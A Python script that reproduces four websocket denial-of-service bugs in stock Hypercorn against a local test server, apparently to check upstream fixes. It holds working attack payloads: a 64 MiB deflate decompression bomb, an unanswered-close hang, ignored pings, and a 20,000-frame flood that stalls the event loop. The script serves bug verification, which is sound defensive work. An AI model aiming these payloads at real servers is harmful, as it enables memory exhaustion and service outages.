"""Reproduce, against STOCK Hypercorn, the websocket bugs that ticker's fixes 6-9 patch.

Each scenario serves a bare ASGI websocket app (accept, then receive until
``websocket.disconnect``, echo nothing) with ``hypercorn.trio.serve`` in this
process on 127.0.0.1, attacks it with a raw-socket client, and prints one JSON
line: ``{"scenario": ..., "bug_present": true/false, "evidence": {...}}``.

    python tools/hypercorn_repro.py deflate-unbounded          # fix 6
    python tools/hypercorn_repro.py close-never-ends           # fix 7
    python tools/hypercorn_repro.py pongs-ignored              # fix 8
    python tools/hypercorn_repro.py frames-without-checkpoint  # fix 9
    python tools/hypercorn_repro.py all                        # each in a fresh process

It imports nothing from ticker (whose import would patch Hypercorn): only the
standard library, trio, wsproto and hypercorn. ``bug_present: false`` means the
installed Hypercorn no longer has the bug: see docs/upstream/README.md.
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import subprocess
import sys
import time
import tracemalloc
import zlib
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from functools import partial
from importlib.metadata import version
from typing import Any, Final

import hypercorn.trio
import trio
from hypercorn.config import Config
from hypercorn.typing import ASGIReceiveCallable, ASGISendCallable, Scope
from wsproto.frame_protocol import Frame, FrameProtocol, Opcode

#: Upper bound for any single wait; a hang fails the scenario instead of stalling.
STEP: Final = 10.0
#: How long the unanswered close and the unanswered pings are watched (seconds).
WATCH: Final = 3.0
MAX_MESSAGE_SIZE: Final = 4096
CHROMIUM_OFFER: Final = "permessage-deflate; client_max_window_bits"
BOMB_SIZE: Final = 64 * 1024 * 1024
FLOOD_FRAMES: Final = 20_000
MiB: Final = 1024 * 1024


# --------------------------------------------------------------------------- the app


@dataclass
class AppRecord:
    """What the bare app saw, with times from ``trio.current_time()``."""

    accepted: trio.Event = field(default_factory=trio.Event)
    messages: int = 0
    message: trio.Event = field(default_factory=trio.Event)
    disconnected: trio.Event = field(default_factory=trio.Event)
    disconnect_code: int | None = None
    disconnect_at: float | None = None


def make_app(
    record: AppRecord,
) -> Callable[[Scope, ASGIReceiveCallable, ASGISendCallable], Awaitable[None]]:
    async def app(scope: Scope, receive: ASGIReceiveCallable, send: ASGISendCallable) -> None:
        if scope["type"] == "lifespan":
            while True:
                event = await receive()
                if event["type"] == "lifespan.startup":
                    await send({"type": "lifespan.startup.complete"})
                elif event["type"] == "lifespan.shutdown":
                    await send({"type": "lifespan.shutdown.complete"})
                    return
        if scope["type"] != "websocket":
            return
        await receive()  # websocket.connect
        await send({"type": "websocket.accept", "subprotocol": None, "headers": []})
        record.accepted.set()
        while True:
            event = await receive()
            if event["type"] == "websocket.disconnect":
                record.disconnect_code = event["code"]
                record.disconnect_at = trio.current_time()
                record.disconnected.set()
                return
            if event["type"] == "websocket.receive":
                record.messages += 1
                record.message.set()

    return app


def stock_config(**settings: Any) -> Config:
    config = Config()
    config.bind = ["127.0.0.1:0"]
    config.accesslog = None
    config.loglevel = "WARNING"
    config.graceful_timeout = 1.0
    for name, value in settings.items():
        setattr(config, name, value)
    return config


# --------------------------------------------------------------------------- the client


def frame(opcode: Opcode, payload: bytes, *, fin: bool = True, rsv1: bool = False) -> bytes:
    """A masked client frame, built by hand so it can carry what wsproto would refuse."""
    mask = os.urandom(4)
    head = bytes([(0x80 if fin else 0) | (0x40 if rsv1 else 0) | opcode.value])
    length = len(payload)
    if length < 126:
        head += bytes([0x80 | length])
    elif length < 2**16:
        head += bytes([0x80 | 126]) + length.to_bytes(2, "big")
    else:
        head += bytes([0x80 | 127]) + length.to_bytes(8, "big")
    keystream = (mask * (length // 4 + 1))[:length]
    masked = (int.from_bytes(payload, "big") ^ int.from_bytes(keystream, "big")).to_bytes(
        length, "big"
    )
    return head + mask + masked


def close_frame(code: int) -> bytes:
    return frame(Opcode.CLOSE, code.to_bytes(2, "big"))


@dataclass
class Client:
    """A raw websocket client: hand-made frames out, wsproto's frame parser in."""

    stream: trio.SocketStream
    parser: FrameProtocol = field(default_factory=lambda: FrameProtocol(True, []))
    eof: bool = False

    @classmethod
    async def connect(cls, port: int, extensions: str | None = None) -> tuple[Client, str | None]:
        """Open a websocket; also returns the server's Sec-WebSocket-Extensions, if any."""
        stream = await trio.open_tcp_stream("127.0.0.1", port)
        lines = [
            "GET / HTTP/1.1",
            f"Host: 127.0.0.1:{port}",
            "Upgrade: websocket",
            "Connection: Upgrade",
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
            "Sec-WebSocket-Version: 13",
        ]
        if extensions is not None:
            lines.append(f"Sec-WebSocket-Extensions: {extensions}")
        await stream.send_all(("\r\n".join(lines) + "\r\n\r\n").encode())
        response = b""
        while b"\r\n\r\n" not in response:
            data = await stream.receive_some(65536)
            if not data:
                raise RuntimeError(f"handshake: EOF after {response!r}")
            response += data
        head, _, rest = response.partition(b"\r\n\r\n")
        status, *header_lines = head.decode("latin-1").split("\r\n")
        if " 101 " not in f"{status} ":
            raise RuntimeError(f"handshake refused: {status}")
        headers = {
            name.strip().lower(): value.strip()
            for name, _, value in (line.partition(":") for line in header_lines)
        }
        client = cls(stream)
        client.parser.receive_bytes(rest)
        return client, headers.get("sec-websocket-extensions")

    async def next_frame(self) -> Frame | None:
        """The next frame from the server, or None at EOF."""
        while True:
            for received in self.parser.received_frames():
                return received
            if self.eof:
                return None
            try:
                data = await self.stream.receive_some(65536)
            except trio.BrokenResourceError:
                data = b""
            if not data:
                self.eof = True
                return None
            self.parser.receive_bytes(data)

    async def until_close(self) -> int | None:
        """Read until the server's close frame; its code (None if TCP ended first)."""
        while (received := await self.next_frame()) is not None:
            if received.opcode is Opcode.CLOSE and isinstance(received.payload, tuple):
                return int(received.payload[0])
        return None

    async def until_eof(self) -> None:
        while await self.next_frame() is not None:
            pass

    async def send(self, data: bytes) -> None:
        await self.stream.send_all(data)

    async def aclose(self) -> None:
        await self.stream.aclose()


# --------------------------------------------------------------------------- the harness


Scenario = Callable[[int, AppRecord], Awaitable[tuple[bool, dict[str, Any]]]]


async def run_scenario(scenario: Scenario, config: Config) -> tuple[bool, dict[str, Any]]:
    """Serve the bare app with stock Hypercorn, run ``scenario(port, record)``, shut down."""
    record = AppRecord()
    shutdown = trio.Event()
    async with trio.open_nursery() as nursery:
        with trio.fail_after(STEP):
            urls: list[str] = await nursery.start(
                partial(
                    hypercorn.trio.serve, make_app(record), config, shutdown_trigger=shutdown.wait
                )
            )
        port = int(urls[0].rpartition(":")[2])
        try:
            result = await scenario(port, record)
        finally:
            shutdown.set()
    return result


async def finish(client: Client, record: AppRecord, *, answer_close: bool) -> None:
    """End the connection cleanly: answer (or send) a close, wait for EOF, then for the app."""
    try:
        with trio.move_on_after(2):
            if answer_close:
                await client.send(close_frame(1000))
                await client.until_eof()
    except trio.BrokenResourceError:
        pass
    finally:
        await client.aclose()
    with trio.fail_after(STEP):
        await record.disconnected.wait()


def maxrss_kib() -> int:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB on Linux


def traced_peak_kib() -> int:
    """The peak of Python's allocations since ``tracemalloc.start()`` (independent of
    how the allocator reuses pages, unlike the RSS high-water mark)."""
    return tracemalloc.get_traced_memory()[1] // 1024


def bomb(size: int) -> bytes:
    """A raw-deflate message payload inflating to ``size`` bytes of "a" (RFC 7692 §7.2.1).

    Compressed from one reused 1 MiB chunk, so the client itself stays small.
    """
    compressor = zlib.compressobj(9, zlib.DEFLATED, -9)
    chunk = b"a" * MiB
    parts = [compressor.compress(chunk) for _ in range(size // MiB)]
    parts.append(compressor.flush(zlib.Z_SYNC_FLUSH))
    payload = b"".join(parts)
    assert payload.endswith(b"\x00\x00\xff\xff")
    return payload[:-4]


# --------------------------------------------------------------------------- scenarios


async def deflate_unbounded(port: int, record: AppRecord) -> tuple[bool, dict[str, Any]]:
    """Fix 6: one compressed message is inflated whole before its size is checked."""
    payload = bomb(BOMB_SIZE)
    message = frame(Opcode.TEXT, payload, rsv1=True)
    with trio.fail_after(STEP):
        client, agreed = await Client.connect(port, CHROMIUM_OFFER)
        await record.accepted.wait()
        before = maxrss_kib()
        tracemalloc.start()
        await client.send(message)
        code = await client.until_close()
    peak = traced_peak_kib()
    tracemalloc.stop()
    growth = maxrss_kib() - before
    await finish(client, record, answer_close=True)
    evidence = {
        "max_message_size": MAX_MESSAGE_SIZE,
        "offer": CHROMIUM_OFFER,
        "accepted_extensions": agreed,
        "compressed_bytes": len(payload),
        "inflates_to_bytes": BOMB_SIZE,
        "close_code": code,
        "peak_rss_growth_kib": growth,
        "peak_rss_growth_mib": round(growth / 1024, 1),
        "peak_allocated_mib": round(peak / 1024, 1),
    }
    return peak > 32 * 1024, evidence


async def close_never_ends(port: int, record: AppRecord) -> tuple[bool, dict[str, Any]]:
    """Fix 7: after refusing a message (1009) the app is not told and TCP stays open."""
    with trio.fail_after(STEP):
        client, _ = await Client.connect(port)
        await record.accepted.wait()
        await client.send(frame(Opcode.TEXT, b"x" * 65536))
        code = await client.until_close()
    closed_at = trio.current_time()
    with trio.move_on_after(WATCH):  # never answer the close; watch for EOF
        await client.until_eof()
    eof = client.eof
    app_told = record.disconnected.is_set()
    told_at = record.disconnect_at
    app_told_after = None if told_at is None else round(told_at - closed_at, 3)
    await finish(client, record, answer_close=False)
    evidence = {
        "max_message_size": MAX_MESSAGE_SIZE,
        "sent_bytes": 65536,
        "close_code": code,
        "watched_s": WATCH,
        "app_got_disconnect": app_told,
        "app_disconnect_after_s": app_told_after,
        "client_saw_eof": eof,
        "app_disconnect_code_once_client_left": record.disconnect_code,
    }
    return code == 1009 and not app_told and not eof, evidence


async def pongs_ignored(port: int, record: AppRecord) -> tuple[bool, dict[str, Any]]:
    """Fix 8: Hypercorn pings on its interval but never notices that no pong comes."""
    pings = 0
    close_code: int | None = None
    with trio.fail_after(STEP):
        client, _ = await Client.connect(port)
        await record.accepted.wait()
    with trio.move_on_after(WATCH):  # read everything, answer nothing
        while (received := await client.next_frame()) is not None:
            if received.opcode is Opcode.PING:
                pings += 1
            elif received.opcode is Opcode.CLOSE and isinstance(received.payload, tuple):
                close_code = int(received.payload[0])
                break
    eof = client.eof
    app_told = record.disconnected.is_set()
    await finish(client, record, answer_close=True)
    evidence = {
        "websocket_ping_interval": 0.2,
        "watched_s": WATCH,
        "pings_seen": pings,
        "pongs_sent": 0,
        "server_close_code": close_code,
        "client_saw_eof": eof,
        "app_got_disconnect": app_told,
    }
    return close_code is None and not eof and not app_told and pings >= 5, evidence


class LongestStep(trio.abc.Instrument):
    """The longest single task step, except the steps of the tasks in ``ignore``."""

    def __init__(self, ignore: set[trio.lowlevel.Task]) -> None:
        self.ignore = ignore
        self.started = 0.0
        self.longest = 0.0
        self.longest_task = ""
        self.steps = 0

    def before_task_step(self, task: trio.lowlevel.Task) -> None:
        self.started = time.perf_counter()

    def after_task_step(self, task: trio.lowlevel.Task) -> None:
        took = time.perf_counter() - self.started
        if task in self.ignore:
            return
        self.steps += 1
        if took > self.longest:
            self.longest, self.longest_task = took, task.name


async def frames_without_checkpoint(port: int, record: AppRecord) -> tuple[bool, dict[str, Any]]:
    """Fix 9: all the frames of one read are parsed in one task step."""
    flood = frame(Opcode.TEXT, b"a", fin=False) + b"".join(
        frame(Opcode.CONTINUATION, b"", fin=False) for _ in range(FLOOD_FRAMES)
    )
    with trio.fail_after(STEP):
        client, _ = await Client.connect(port)
        await record.accepted.wait()
    instrument = LongestStep({trio.lowlevel.current_task()})
    trio.lowlevel.add_instrument(instrument)
    try:
        with trio.fail_after(STEP):
            await client.send(flood)
            await client.send(frame(Opcode.CONTINUATION, b"b"))  # end the message
            await record.message.wait()  # the server has parsed every frame
    finally:
        trio.lowlevel.remove_instrument(instrument)
    await finish(client, record, answer_close=True)
    longest_ms = round(instrument.longest * 1000, 1)
    evidence = {
        "frames": FLOOD_FRAMES + 2,
        "bytes_in_one_send_all": len(flood),
        "longest_step_ms": longest_ms,
        "longest_step_task": instrument.longest_task,
        "server_steps": instrument.steps,
        "app_got_message": record.messages == 1,
    }
    return longest_ms > 20, evidence


SCENARIOS: Final[dict[str, tuple[Scenario, dict[str, Any]]]] = {
    "deflate-unbounded": (deflate_unbounded, {"websocket_max_message_size": MAX_MESSAGE_SIZE}),
    "close-never-ends": (close_never_ends, {"websocket_max_message_size": MAX_MESSAGE_SIZE}),
    "pongs-ignored": (pongs_ignored, {"websocket_ping_interval": 0.2}),
    "frames-without-checkpoint": (frames_without_checkpoint, {}),
}


def run(name: str) -> dict[str, Any]:
    scenario, settings = SCENARIOS[name]
    bug_present, evidence = trio.run(run_scenario, scenario, stock_config(**settings))
    evidence["hypercorn"] = version("hypercorn")
    evidence["wsproto"] = version("wsproto")
    return {"scenario": name, "bug_present": bug_present, "evidence": evidence}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("scenario", choices=[*SCENARIOS, "all"])
    args = parser.parse_args(argv)
    if args.scenario != "all":
        print(json.dumps(run(args.scenario)), flush=True)
        return 0
    for name in SCENARIOS:  # each in a fresh process: ru_maxrss only ever grows
        subprocess.run([sys.executable, __file__, name], check=True, timeout=120)
    return 0


if __name__ == "__main__":
    sys.exit(main())
